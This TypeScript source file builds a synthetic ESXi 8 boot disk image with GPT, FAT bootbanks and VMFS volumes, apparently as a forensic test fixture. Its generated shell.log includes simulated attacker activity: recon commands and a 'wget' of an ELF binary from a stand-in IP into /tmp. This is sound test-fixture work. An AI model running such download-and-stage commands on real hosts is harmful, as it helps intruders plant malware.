/**
 * An ESXi 7/8 style boot disk (format §1): GPT with BOOT (EFI system, FAT)
 * at 0x8000, BOOTBANK1 / BOOTBANK2 (FAT, each with a boot.cfg) at 0x6600000
 * and 0x106600000, ESX-OSData (type 4EB2EA39-…, a VMFS-L volume holding the
 * host's log/ tree) at 0x206600000 and the local datastore "datastore1"
 * (VMFS-6) at 0x2000100000 — the partition starts dissect.volume's ESXi 7
 * test asserts. GPT entry numbers follow ESXi: 1, 5, 6, 7, 8. The FAT
 * volumes are made by mkfs.vfat and filled with mtools; their bytes are
 * copied into the sparse disk by data extent. ~128 GiB logical, a few MiB
 * on the host.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { forEachData } from '../sparse-extents.js';
import os from 'node:os';
import path from 'node:path';
import { makeUuid, uuidText } from '../vmfs5/geometry.js';
import { SparseImage } from '../vmfs5/sparse-image.js';
import { GPT_TYPES, gptWrites, type GptPartition } from '../gpt.js';
import { emitVmfs6, identity, partitionBytes, type BuildResult6, type BuiltFile6 } from './index.js';
import type { TreeNode6, VolumeSpec6 } from './spec.js';

const MiB = 1 << 20;
const SECTOR = 512;
/** ESXi 7 offsets (format §1). */
export const BOOT_LAYOUT = {
  boot: { start: 0x8000, end: 0x6600000 },
  bootbank1: { start: 0x6600000, end: 0x106600000 },
  bootbank2: { start: 0x106600000, end: 0x206600000 },
  osdata: { start: 0x206600000, end: 0x2000100000 },
  datastore: { start: 0x2000100000 },
} as const;

export interface BootDiskSpec {
  createTime: number;
  uuidSeed: number;
  hostname: string;
  osdata: Omit<VolumeSpec6, 'createTime' | 'uuidSeed' | 'vmfsL'>;
  datastore: Omit<VolumeSpec6, 'createTime' | 'uuidSeed'>;
  /** Files of each FAT partition: path inside → content. */
  fat: { boot: Record<string, string>; bootbank1: Record<string, string>; bootbank2: Record<string, string> };
}

export interface BootDiskResult {
  image: { path: string; size: number; sha256: string; sectorSize: number };
  partitions: Array<{ number: number; name: string; type: string; offset: number; size: number; holds: string }>;
  osdata: Omit<BuildResult6, 'images'> & { partitionOffset: number };
  datastore: Omit<BuildResult6, 'images'> & { partitionOffset: number };
}

/** mkfs.vfat a FAT volume of `bytes`, put `files` in with mcopy, copy its data extents into `image` at `offset`. */
function fatPartition(image: SparseImage, offset: number, bytes: number, label: string, files: Record<string, string>, work: string, volumeId: number): void {
  const f = path.join(work, `${label}.fat`);
  execFileSync('mkfs.vfat', ['-C', '-n', label, '-i', volumeId.toString(16).padStart(8, '0'), '--invariant', f, String(bytes / 1024)], { stdio: 'ignore' });
  const env = { ...process.env, MTOOLS_SKIP_CHECK: '1', SOURCE_DATE_EPOCH: '1717200000' };
  const dirs = new Set<string>();
  for (const p of Object.keys(files).sort()) {
    const parts = p.split('/').slice(0, -1);
    for (let i = 1; i <= parts.length; i++) {
      const d = parts.slice(0, i).join('/');
      if (!dirs.has(d)) {
        dirs.add(d);
        execFileSync('mmd', ['-i', f, `::/${d}`], { env });
      }
    }
    const local = path.join(work, 'content');
    writeFileSync(local, files[p]!);
    // mcopy -m keeps the source's mtime: a fixed one makes the FAT bytes reproducible (SOURCE_DATE_EPOCH covers mmd).
    utimesSync(local, 1717200000, 1717200000);
    execFileSync('mcopy', ['-i', f, '-m', local, `::/${p}`], { env });
  }
  forEachData(f, 0, bytes, (at, data) => image.write(offset + at, data));
}

export async function buildBootDisk(spec: BootDiskSpec, outPath: string): Promise<BootDiskResult> {
  const osSpec: VolumeSpec6 = { ...spec.osdata, createTime: spec.createTime, uuidSeed: spec.uuidSeed, vmfsL: true };
  const dsSpec: VolumeSpec6 = { ...spec.datastore, createTime: spec.createTime + 60, uuidSeed: spec.uuidSeed + 1 };
  const dsBytes = partitionBytes((dsSpec.devices ?? [{}]).reduce((s, d) => s + (d.pes ?? 1), 0));
  const dsEnd = BOOT_LAYOUT.datastore.start + dsBytes;
  const size = dsEnd + MiB;
  const u = (role: number): Buffer => makeUuid(spec.createTime, spec.uuidSeed, role);
  const lba = (b: number): number => b / SECTOR;
  const parts: Array<GptPartition & { number: number; holds: string }> = [
    { number: 1, name: 'BOOT', type: GPT_TYPES.efi, partGuid: u(41), firstLba: lba(BOOT_LAYOUT.boot.start), lastLba: lba(BOOT_LAYOUT.boot.end) - 1, holds: 'FAT (EFI system partition)' },
    { number: 5, name: 'BOOTBANK1', type: GPT_TYPES.basicData, partGuid: u(45), firstLba: lba(BOOT_LAYOUT.bootbank1.start), lastLba: lba(BOOT_LAYOUT.bootbank1.end) - 1, holds: 'FAT (bootbank, boot.cfg)' },
    { number: 6, name: 'BOOTBANK2', type: GPT_TYPES.basicData, partGuid: u(46), firstLba: lba(BOOT_LAYOUT.bootbank2.start), lastLba: lba(BOOT_LAYOUT.bootbank2.end) - 1, holds: 'FAT (alternate bootbank, boot.cfg)' },
    { number: 7, name: 'OSDATA', type: GPT_TYPES.osdata, partGuid: u(47), firstLba: lba(BOOT_LAYOUT.osdata.start), lastLba: lba(BOOT_LAYOUT.osdata.end) - 1, holds: `VMFS-L "${osSpec.label}"` },
    { number: 8, name: 'datastore1', type: GPT_TYPES.vmfs, partGuid: u(48), firstLba: lba(BOOT_LAYOUT.datastore.start), lastLba: lba(dsEnd) - 1, holds: `VMFS-6 "${dsSpec.label}"` },
  ];
  // GPT entry slots are the partition numbers (1-based); 2–4 stay empty, as on ESXi.
  const slots: GptPartition[] = [];
  for (const p of parts) slots[p.number - 1] = p;
  for (let i = 0; i < slots.length; i++) slots[i] ??= { type: '00000000-0000-0000-0000-000000000000', partGuid: Buffer.alloc(16), firstLba: 0, lastLba: 0 };
  const image = new SparseImage(outPath, size, 'extents');
  const work = mkdtempSync(path.join(os.tmpdir(), 'vmfskit-bootdisk-'));
  try {
    for (const w of gptWrites(size, SECTOR, u(40), slots)) image.write(w.offset, w.data);
    fatPartition(image, BOOT_LAYOUT.boot.start, BOOT_LAYOUT.boot.end - BOOT_LAYOUT.boot.start, 'BOOT', spec.fat.boot, work, 0x0e5b0001);
    fatPartition(image, BOOT_LAYOUT.bootbank1.start, BOOT_LAYOUT.bootbank1.end - BOOT_LAYOUT.bootbank1.start, 'BOOTBANK1', spec.fat.bootbank1, work, 0x0e5b0005);
    fatPartition(image, BOOT_LAYOUT.bootbank2.start, BOOT_LAYOUT.bootbank2.end - BOOT_LAYOUT.bootbank2.start, 'BOOTBANK2', spec.fat.bootbank2, work, 0x0e5b0006);
    const osFiles: BuiltFile6[] = emitVmfs6({ ...osSpec, devices: [{ ...(osSpec.devices?.[0] ?? {}), partitionBytes: BOOT_LAYOUT.osdata.end - BOOT_LAYOUT.osdata.start }] }, [{ image, partitionOffset: BOOT_LAYOUT.osdata.start }]);
    const dsFiles: BuiltFile6[] = emitVmfs6(dsSpec, [{ image, partitionOffset: BOOT_LAYOUT.datastore.start }]);
    const sha256 = image.finish();
    const describe = (s: VolumeSpec6, files: BuiltFile6[], partitionOffset: number) => ({ label: s.label, fsUuid: uuidText(identity(s).fsUuid), lvUuid: uuidText(identity(s).lvUuid), files, partitionOffset });
    return {
      image: { path: outPath, size, sha256, sectorSize: SECTOR },
      partitions: parts.map((p) => ({ number: p.number, name: p.name!, type: p.type, offset: p.firstLba * SECTOR, size: (p.lastLba - p.firstLba + 1) * SECTOR, holds: p.holds })),
      osdata: describe(osSpec, osFiles, BOOT_LAYOUT.osdata.start),
      datastore: describe(dsSpec, dsFiles, BOOT_LAYOUT.datastore.start),
    };
  } catch (e) {
    image.abandon();
    throw e;
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
}

/** ESXi 8.0 U2 style log lines for the OSDATA log/ tree. */
function logs(host: string, t0: number): TreeNode6[] {
  const iso = (s: number): string => new Date((t0 + s) * 1000).toISOString().replace(/\.\d+Z$/, '.000Z');
  const lines = (n: number, f: (i: number) => string): string => Array.from({ length: n }, (_, i) => f(i)).join('\n') + '\n';
  const shell = lines(40, (i) => `${iso(600 + i * 7)} ${host} shell[${2101000 + i}]: [root]: ${['esxcli network ip interface ipv4 get', 'vim-cmd vmsvc/getallvms', 'ls /vmfs/volumes/datastore1', 'esxcli storage filesystem list', 'cat /etc/rc.local.d/local.sh', 'vim-cmd vmsvc/power.off 1', 'esxcli system account list', 'cd /tmp && wget http://198.51.100.23/x.elf'][i % 8]}`);
  const hostd = lines(120, (i) => `${iso(30 + i * 3)} In(166) Hostd[2098${100 + (i % 40)}]: [Originator@6876 sub=${['Vimsvc.TaskManager', 'Solo.Vmomi', 'Hostsvc.VmkVprobSource', 'Vmsvc.vm:/vmfs/volumes/datastore1/VM/VM.vmx'][i % 4]} opID=${(0x5a1e0000 + i).toString(16)} user=root] ${['Task Created : haTask-ha-host-vim.HostSystem.acquireCimServicesTicket-' + (1000 + i), 'Event ' + (200 + i) + ' : User root@192.0.2.17 logged in as VMware-client/6.5.0', 'State Transition (VM_STATE_ON -> VM_STATE_POWERING_OFF)', 'Task Completed : haTask-ha-host-vim.HostSystem.retrieveInternalCapability-' + (1000 + i) + ' Status success'][i % 4]}`);
  const vmkernel = lines(200, (i) => `${iso(i)} cpu${i % 4}:${2097152 + i})${['ScsiDeviceIO: 4325: Cmd(0x45b8c1e2a9c0) 0x85, CmdSN 0x' + i.toString(16) + ' from world 0 to dev "mpx.vmhba0:C0:T0:L0" failed H:0x0 D:0x2 P:0x0', 'FS3: 2106: Checking if lock holders are live for lock [type 10c00001 offset 79159296 v 12, hb offset 3473408', 'Vol3: 4390: [Succeeded] to open volume datastore1 on device mpx.vmhba0:C0:T0:L0:8', 'NetPort: 1580: disabled port 0x4000004', 'LVM: 16787: One or more LVM devices have been discovered.'][i % 5]}`);
  const auth = lines(60, (i) => `${iso(500 + i * 11)} ${host} ${['sshd[2101' + (200 + i) + ']: Accepted keyboard-interactive/pam for root from 192.0.2.17 port ' + (50000 + i) + ' ssh2', 'sshd[2101' + (200 + i) + ']: pam_unix(sshd:session): session opened for user root by (uid=0)', 'hostd[2098100]: Accepted password for user root from 192.0.2.17', 'sshd[2101' + (200 + i) + ']: Connection closed by 192.0.2.17 port ' + (50000 + i)][i % 4]}`);
  return [
    { type: 'dir', name: 'log', mtime: t0 + 3600, children: [
      { type: 'file', name: 'shell.log', mtime: t0 + 900, content: { kind: 'text', text: shell } },
      { type: 'file', name: 'hostd.log', mtime: t0 + 3000, content: { kind: 'text', text: hostd } },
      { type: 'file', name: 'vmkernel.log', mtime: t0 + 3600, content: { kind: 'text', text: vmkernel } },
      { type: 'file', name: 'auth.log', mtime: t0 + 1200, content: { kind: 'text', text: auth } },
      { type: 'file', name: 'vmkwarning.log', mtime: t0 + 1800, content: { kind: 'text', text: `${iso(1800)} cpu1:2097153)WARNING: NetDVS: 660: portAlias is NULL\n` } },
    ] },
    { type: 'dir', name: 'core', mtime: t0 + 10, children: [] },
    { type: 'dir', name: 'var', mtime: t0 + 11, children: [{ type: 'dir', name: 'run', mtime: t0 + 12, children: [{ type: 'file', name: 'inventory.xml', mtime: t0 + 13, content: { kind: 'text', text: '<ConfigRoot>\n  <ConfigEntry id="0000">\n    <objID>1</objID>\n    <vmxCfgPath>/vmfs/volumes/datastore1/VM/VM.vmx</vmxCfgPath>\n  </ConfigEntry>\n</ConfigRoot>\n' } }] }] },
  ];
}

export function bootDiskSpec(t0: number): BootDiskSpec {
  const bootCfg = (n: number): string => `bootstate=0\ntitle=Loading VMware ESXi\ntimeout=5\nprefix=\nkernel=b.b00\nkernelopt=autoPartition=FALSE\nmodules=jumpstrt.gz --- useropts.gz --- features.gz --- k.b00 --- uc_intel.b00 --- uc_amd.b00 --- uc_hygon.b00 --- procfs.b00 --- vmx.v00 --- vim.v00 --- tpm.v00 --- sb.v00 --- s.v00 --- bnxtnet.v00 --- imgdb.tgz --- state.tgz\nbuild=8.0.2-0.0.22380479\nupdated=${n}\n`;
  return {
    createTime: t0, uuidSeed: 0x6106, hostname: 'esxi8-lab',
    fat: {
      boot: { 'EFI/BOOT/BOOTX64.EFI': 'MZ placeholder for the ESXi EFI loader\n', 'EFI/VMware/safeboot64.efi': 'MZ placeholder\n' },
      bootbank1: { 'boot.cfg': bootCfg(1), 'b.b00': 'placeholder vmkernel\n', 'state.tgz': 'placeholder state archive\n' },
      bootbank2: { 'boot.cfg': bootCfg(0), 'b.b00': 'placeholder vmkernel (previous)\n' },
    },
    osdata: { label: 'OSDATA-6512a9f0-1b2c3d4e-5f60-000c29a1b2c3', devices: [{ pes: 2 }], rootMtime: t0 + 3600, root: logs('esxi8-lab', t0) },
    datastore: { label: 'datastore1', devices: [{ pes: 2 }], rootMtime: t0 + 4000, root: [
      { type: 'dir', name: 'VM', mtime: t0 + 4000, children: [
        { type: 'file', name: 'VM.vmx', mtime: t0 + 3990, content: { kind: 'text', text: '.encoding = "UTF-8"\nconfig.version = "8"\nvirtualHW.version = "21"\ndisplayName = "VM"\nguestOS = "debian12-64"\nscsi0:0.fileName = "VM.vmdk"\n' } },
        { type: 'file', name: 'VM-flat.vmdk', mode: 0o600, mtime: t0 + 3995, size: 64 * MiB, pieces: [{ offset: 0, content: { kind: 'pattern', seed: 601, length: MiB } }, { offset: 40 * MiB, content: { kind: 'pattern', seed: 602, length: 4096 } }] },
      ] },
    ] },
  };
}

